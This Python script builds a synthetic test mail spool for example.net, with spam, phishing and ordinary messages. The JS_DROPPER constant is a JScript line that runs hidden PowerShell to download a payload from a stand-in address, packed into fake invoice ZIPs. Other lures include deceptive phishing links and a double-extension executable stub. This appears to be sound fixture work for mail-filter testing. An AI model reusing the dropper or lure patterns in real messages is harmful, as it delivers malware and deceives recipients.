#!/usr/bin/env python3
"""Builds examples/spool: a small, deterministic spool written by the project (no third-party mail).

    scripts/make-examples.py [OUT]      (default: examples/spool)

A Maildir++ mailbox for user@example.net (INBOX, .Junk, .INBOX.Archive) and a Thunderbird-style mbox
("Local Folders/Junk"), June to November 2026. The receiving site is example.net: Postfix on mx1 (and a backup
MX, mx2), amavis on localhost, Dovecot LMTP. Spam arrives from addresses in many countries with forged HELOs,
links to sites under many TLDs, and some attachments (a ZIP holding a script, a PDF, an executable with a
double extension). Ham comes from a mail provider, a mailing list and colleagues' authenticated submission.
The same inputs always give byte-identical output.
"""
import base64, io, os, random, shutil, sys, zipfile
from datetime import datetime, timedelta, timezone

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "..", "examples", "spool")
rnd = random.Random(20261029)

# Sending networks (start of a large routed IPv4 block, from the IPFire data) by country, with a weight.
NETWORKS = {
    "PK": ["39.33.0.0", "154.192.0.0"], "BR": ["191.176.0.0", "177.212.0.0"], "RU": ["176.48.0.0", "46.72.0.0"],
    "CN": ["101.64.0.0", "60.208.0.0"], "VN": ["14.226.0.0", "123.31.48.0"], "IN": ["106.205.128.0", "59.90.160.0"],
    "US": ["67.160.0.0"], "NG": ["41.184.0.0", "160.152.0.0"], "ID": ["61.94.0.0", "114.120.0.0"],
    "TR": ["31.140.0.0", "5.229.0.0"], "UA": ["46.200.0.0", "37.229.0.0"], "DE": ["80.128.0.0"],
    "KR": ["125.176.0.0"], "AR": ["179.36.0.0"], "CO": ["181.32.0.0"], "RO": ["188.24.0.0"],
    "TH": ["171.96.0.0"], "EG": ["197.132.0.0"], "MX": ["189.130.0.0"], "IR": ["151.238.0.0"],
}
WEIGHTS = {"BR": 14, "CN": 12, "VN": 11, "IN": 10, "RU": 9, "US": 8, "PK": 6, "ID": 6, "TR": 4, "UA": 4, "NG": 4,
           "DE": 3, "KR": 3, "AR": 3, "CO": 2, "RO": 2, "TH": 2, "EG": 2, "MX": 2, "IR": 1}
# What the spam sells, and where (made-up names under real TLDs).
SITES = [
    ("qvx-pharma-rx.ru", "pills"), ("meds24-discount.ru", "pills"), ("replica-watch-kz.top", "watches"),
    ("bestprice-outlet7.cn", "shop"), ("lucky-spin-casino.xyz", "casino"), ("crypto-yield-pro.io", "crypto"),
    ("secure-verify-acct.com", "phish"), ("loan-approve-fast.online", "loans"), ("hot-dating-nearby.site", "dating"),
    ("seo-rank-boost.in", "seo"), ("vip-invest-club.com.br", "crypto"), ("parcel-track-redelivery.info", "phish"),
]
SUBJECTS = {
    "pills": ["Cheap meds, no prescription", "=?windows-1251?B?yuDqIPHy4PL8IO/u7/Pr//Dt++w/?=", "Your order #{n} is ready"],
    "watches": ["Luxury watches -80% today only", "Replica Rolex from $99"],
    "shop": ["=?UTF-8?Q?Flash_sale_=E2=80=93_everything_must_go?=", "Wholesale LED lights from factory"],
    "casino": ["You won {n} free spins!", "=?UTF-8?B?8J+OsCBKYWNrcG90IGlzIHdhaXRpbmc=?="],
    "crypto": ["Turn $250 into $5,000 in a week", "=?utf-8?B?0J/QsNGB0YHQuNCy0L3Ri9C5INC00L7RhdC+0LQ=?="],
    "phish": ["Action required: verify your account", "Your parcel could not be delivered", "Unusual sign-in activity"],
    "loans": ["Pre-approved: $15,000 loan", "Bad credit? No problem"],
    "dating": ["Anna (24) sent you a message", "=?iso-8859-1?Q?Rencontre_pr=E8s_de_chez_vous?="],
    "seo": ["Get your site on Google page 1", "Guest post offer for example.net"],
}
HELOS = ["{ip}", "[{ip}]", "user-pc", "mail.{fake}", "{fake}", "localhost.localdomain", "WIN-{hex}", "ylmf-pc"]
FAKE_DOMAINS = ["outlook.com", "gmail.com", "example.net", "yahoo.co.jp", "mail.ru", "bank-secure.com"]
MONTH_WEIGHTS = [(6, 8), (7, 10), (8, 11), (9, 14), (10, 30), (11, 9)]
SITE = "example.net"


def pick_ip(country):
    base = rnd.choice(NETWORKS[country]).split(".")
    a, b = int(base[0]), int(base[1])
    return f"{a}.{b + rnd.randrange(0, 4)}.{rnd.randrange(0, 256)}.{rnd.randrange(1, 255)}"


def when(month):
    d = datetime(2026, month, rnd.randrange(1, 28 if month != 11 else 25), rnd.randrange(0, 24), rnd.randrange(60),
                 rnd.randrange(60), tzinfo=timezone.utc)
    return d


def rfc5322(d, offset_minutes=0):
    tz = timezone(timedelta(minutes=offset_minutes))
    local = d.astimezone(tz)
    sign = "+" if offset_minutes >= 0 else "-"
    om = abs(offset_minutes)
    return local.strftime("%a, %d %b %Y %H:%M:%S ") + f"{sign}{om // 60:02d}{om % 60:02d}"


def qid():
    return "".join(rnd.choice("0123456789ABCDEF") for _ in range(10))


def site_hops(d, msgid_host, from_part, via_backup=False, submission=False):
    """Received headers written by example.net, newest first; from_part describes the client."""
    t = d + timedelta(seconds=rnd.randrange(1, 20))
    hops = [
        f"from mx1.{SITE} (localhost [127.0.0.1])\n\tby imap.{SITE} (Dovecot) with LMTP id {qid()}\n\tfor <user@{SITE}>; {rfc5322(t + timedelta(seconds=3))}",
        f"from localhost (localhost [127.0.0.1])\n\tby mx1.{SITE} (Postfix) with ESMTP id {qid()}\n\tfor <user@{SITE}>; {rfc5322(t + timedelta(seconds=2))}",
        f"from mx1.{SITE} ([127.0.0.1])\n\tby localhost (amavis, port 10024) with ESMTP id {qid().lower()}\n\tfor <user@{SITE}>; {rfc5322(t + timedelta(seconds=1))}",
    ]
    if submission:
        hops.append(f"from [10.20.0.{rnd.randrange(2, 250)}] (unknown [10.20.0.{rnd.randrange(2, 250)}])\n\t(Authenticated sender: colleague@{SITE})\n\tby mx1.{SITE} (Postfix) with ESMTPSA id {qid()}\n\tfor <user@{SITE}>; {rfc5322(t)}")
        return hops
    if via_backup:
        hops.append(f"from mx2.{SITE} (mx2.{SITE} [198.51.100.25])\n\tby mx1.{SITE} (Postfix) with ESMTPS id {qid()}\n\tfor <user@{SITE}>; {rfc5322(t)}")
        hops.append(f"from {from_part}\n\tby mx2.{SITE} (Postfix) with ESMTP id {qid()}\n\tfor <user@{SITE}>; {rfc5322(t - timedelta(seconds=40))}")
    else:
        hops.append(f"from {from_part}\n\tby mx1.{SITE} (Postfix) with ESMTP id {qid()}\n\tfor <user@{SITE}>; {rfc5322(t)}")
    return hops


def client(ip, helo_kind=None):
    helo = (helo_kind or rnd.choice(HELOS)).format(
        ip=pick_ip(rnd.choice(list(NETWORKS))) if rnd.random() < 0.5 else ip, fake=rnd.choice(FAKE_DOMAINS),
        hex="".join(rnd.choice("ABCDEF0123456789") for _ in range(6)))
    rdns = rnd.choice(["unknown", f"host-{ip.replace('.', '-')}.dynamic.example-isp.net", "unknown"])
    return f"{helo} ({rdns} [{ip}])"


def header_block(fields):
    return "".join(f"{k}: {v}\n" for k, v in fields)


def html_spam(site, kind, n):
    url = f"https://{rnd.choice(['www.', '', 'go.', 'promo.'])}{site}/{rnd.choice(['offer', 'p', 'r', 'track'])}/{n}"
    if kind == "phish":
        shown = rnd.choice(["https://www.paypal.com/signin", "https://secure.bankofamerica.com/", "https://www.dhl.com/track"])
        anchor = f'<a href="{url}">{shown}</a>'
    else:
        anchor = f'<a href="{url}">Click here</a>'
    img = f'<img src="https://cdn.{site}/img/{n}.png" width="600" alt="">'
    return (
        "<html><body>\n"
        f"<p>Dear customer,</p>\n<p>{anchor} to see the offer.</p>\n{img}\n"
        f'<p style="font-size:1px;color:#fff">unsubscribe at <a href="http://unsub.{site}/u?id={n}">here</a></p>\n'
        "</body></html>\n")


def zip_with(name, data):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo(name, date_time=(2026, 10, 1, 12, 0, 0))
        z.writestr(info, data)
    return buf.getvalue()


def b64(data):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + 76] for i in range(0, len(s), 76)) + "\n"


MINI_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")
MZ_STUB = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00L\x01"
JS_DROPPER = b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c iwr http://203.0.113.9/a');\n"


def spam_message(n, month):
    country = rnd.choices(list(WEIGHTS), weights=list(WEIGHTS.values()))[0]
    ip = pick_ip(country)
    d = when(month)
    site, kind = rnd.choice(SITES)
    subject = rnd.choice(SUBJECTS[kind]).replace("{n}", str(rnd.randrange(1000, 99999)))
    sender_dom = rnd.choice(["mail-" + site, "news." + site.split(".")[0] + ".com", rnd.choice(FAKE_DOMAINS)])
    boundary = f"=_{qid()}"
    hops = site_hops(d, site, client(ip), via_backup=rnd.random() < 0.15)
    fields = [("Received", h) for h in hops]
    fields += [
        ("Return-Path", f"<bounce-{n}@{sender_dom}>"),
        ("From", f'"{rnd.choice(["Support", "Customer Care", "Anna", "Rewards Team", "Service"])}" <info@{sender_dom}>'),
        ("To", f"user@{SITE}"), ("Subject", subject), ("Date", rfc5322(d, rnd.choice([-300, 0, 180, 420, 480]))),
        ("Message-ID", f"<{qid().lower()}{n}@{sender_dom}>"), ("MIME-Version", "1.0"),
    ]
    if rnd.random() < 0.4:
        fields.append(("X-Spam-Flag", "YES"))
        fields.append(("X-Spam-Status", f"Yes, score={rnd.randrange(6, 30)}.{rnd.randrange(10)} required=5.0"))
    attach = None
    r = rnd.random()
    if r < 0.08:
        attach = ("invoice_" + str(n) + ".zip", "application/zip", zip_with(f"invoice_{n}.js", JS_DROPPER))
    elif r < 0.13:
        attach = ("statement.pdf", "application/pdf", MINI_PDF)
    elif r < 0.16:
        attach = ("document.pdf.exe", "application/octet-stream", MZ_STUB)
    html = html_spam(site, kind, n)
    text = f"Dear customer,\n\nSee the offer: https://{site}/offer/{n}\n\nTo unsubscribe visit www.{site}/u\n"
    if attach:
        body = (f"This is a multi-part message in MIME format.\n\n--{boundary}\n"
                f"Content-Type: multipart/alternative; boundary=\"alt{boundary}\"\n\n"
                f"--alt{boundary}\nContent-Type: text/plain; charset=utf-8\n\n{text}\n"
                f"--alt{boundary}\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
                f"{html.replace('=', '=3D')}\n--alt{boundary}--\n\n"
                f"--{boundary}\nContent-Type: {attach[1]}; name=\"{attach[0]}\"\n"
                f"Content-Disposition: attachment; filename=\"{attach[0]}\"\nContent-Transfer-Encoding: base64\n\n"
                f"{b64(attach[2])}--{boundary}--\n")
        fields.append(("Content-Type", f'multipart/mixed; boundary="{boundary}"'))
    else:
        body = (f"--{boundary}\nContent-Type: text/plain; charset=utf-8\n\n{text}\n"
                f"--{boundary}\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
                f"{html.replace('=', '=3D')}\n--{boundary}--\n")
        fields.append(("Content-Type", f'multipart/alternative; boundary="{boundary}"'))
    return d, header_block(fields) + "\n" + body


def ham_message(n, month):
    d = when(month)
    kind = rnd.choice(["provider", "list", "colleague"])
    if kind == "provider":
        ip = f"209.85.{rnd.randrange(128, 255)}.{rnd.randrange(1, 255)}"
        frm = f"mail-{rnd.choice(['wr1', 'ej1', 'pl1'])}-f{rnd.randrange(40, 99)}.google.com"
        hops = site_hops(d, "gmail.com", f"{frm} ({frm} [{ip}])")
        inner = [f"by 2002:a05:6000:{rnd.randrange(4096):x}:b0:{rnd.randrange(4096):x}:{rnd.randrange(4096):x} with SMTP id {qid().lower()};\n        {rfc5322(d - timedelta(seconds=5), -420)}"]
        sender = ("Maria Lopez", "maria.lopez.family@gmail.com")
        extra = []
    elif kind == "list":
        ip = "198.18.200.7"  # documentation-free but private-ish? no: use a real-looking list host address below
        ip = f"140.211.{rnd.randrange(0, 16)}.{rnd.randrange(1, 255)}"
        hops = site_hops(d, "lists.example.org", f"lists.example.org (lists.example.org [{ip}])")
        poster = pick_ip(rnd.choice(["DE", "US", "KR"]))
        inner = [f"from smtp.poster.example ({poster.replace('.', '-')}.example-isp.net [{poster}])\n\tby lists.example.org (Postfix) with ESMTPS id {qid()}\n\tfor <dev@lists.example.org>; {rfc5322(d - timedelta(seconds=30))}"]
        sender = ("Jonas Weber", "jonas@poster.example")
        extra = [("List-Id", "Developers <dev.lists.example.org>"), ("List-Post", "<mailto:dev@lists.example.org>"),
                 ("Precedence", "list")]
    else:
        hops = site_hops(d, SITE, "", submission=True)
        inner = []
        sender = ("Colleague", f"colleague@{SITE}")
        extra = []
    fields = [("Received", h) for h in hops] + [("Received", h) for h in inner]
    subjects = ["Lunch on Friday?", "Re: quarterly numbers", "[dev] release 2.4 branch is open", "Photos from the trip",
                "=?UTF-8?Q?Caf=C3=A9_meeting_notes?=", "=?ISO-2022-JP?B?GyRCJDMkcyRLJEEkTxsoQg==?="]
    fields += [("From", f'"{sender[0]}" <{sender[1]}>'), ("To", f"user@{SITE}"), ("Subject", rnd.choice(subjects)),
               ("Date", rfc5322(d, rnd.choice([60, 120, -420]))), ("Message-ID", f"<{qid().lower()}.{n}@{sender[1].split('@')[1]}>"),
               ("MIME-Version", "1.0"), ("Content-Type", "text/plain; charset=utf-8")] + extra
    fields.append(("X-Spam-Status", f"No, score=-{rnd.randrange(0, 3)}.{rnd.randrange(10)} required=5.0"))
    body = "Hi,\n\nsee the notes at https://wiki.example.org/notes and tell me what you think.\n\nThanks\n"
    return d, header_block(fields) + "\n" + body


def maildir_name(d, n, flags):
    return f"{int(d.timestamp())}.M{n}P{1000 + n}.mx1.{SITE},S={1000 + n}" + (f":2,{flags}" if flags is not None else "")


def main():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    md = os.path.join(OUT, "Maildir")
    for folder in ["", ".Junk", ".INBOX.Archive"]:
        for leaf in ["cur", "new", "tmp"]:
            os.makedirs(os.path.join(md, folder, leaf), exist_ok=True)
    with open(os.path.join(md, "subscriptions"), "w") as f:
        f.write("Junk\nINBOX.Archive\n")
    months = [m for m, w in MONTH_WEIGHTS for _ in range(w)]
    n = 0
    mbox_messages = []
    for i in range(140):
        n += 1
        month = rnd.choice(months)
        d, text = spam_message(n, month)
        if i % 4 == 0:
            mbox_messages.append((d, text))
        else:
            folder = ".Junk" if rnd.random() < 0.85 else ""
            leaf, flags = ("cur", rnd.choice(["S", "RS", ""])) if rnd.random() < 0.8 else ("new", None)
            with open(os.path.join(md, folder, leaf, maildir_name(d, n, flags)), "w") as f:
                f.write(text)
    for i in range(45):
        n += 1
        d, text = ham_message(n, rnd.choice(months))
        folder = ".INBOX.Archive" if d.month < 9 else ""
        leaf, flags = ("cur", rnd.choice(["S", "RS", "FS"])) if rnd.random() < 0.85 else ("new", None)
        with open(os.path.join(md, folder, leaf, maildir_name(d, n, flags)), "w") as f:
            f.write(text)
    tb = os.path.join(OUT, "Local Folders")
    os.makedirs(tb, exist_ok=True)
    with open(os.path.join(tb, "Junk"), "w") as f:
        for d, text in sorted(mbox_messages, key=lambda x: x[0]):
            f.write("From - " + d.strftime("%a %b %d %H:%M:%S %Y") + "\n")
            lines = text.split("\n")
            f.write("\n".join((">" + l) if l.lstrip(">").startswith("From ") else l for l in lines))
            f.write("\n\n" if not text.endswith("\n") else "\n")
    with open(os.path.join(tb, "Junk.msf"), "w") as f:
        f.write('// <!-- <mdb:mork:z v="1.4"/> -->\n< <(a=c)> // (f=iso-8859-1)\n  (B8=Junk)>\n')
    print(f"wrote {n} messages under {OUT}")


if __name__ == "__main__":
    main()
